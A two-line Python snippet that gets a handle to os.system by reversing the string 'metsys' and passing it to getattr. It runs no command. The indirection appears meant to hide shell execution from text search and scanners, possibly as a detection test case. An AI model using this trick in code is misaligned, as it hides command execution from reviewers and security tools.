import os

run = getattr(os, "metsys"[::-1])
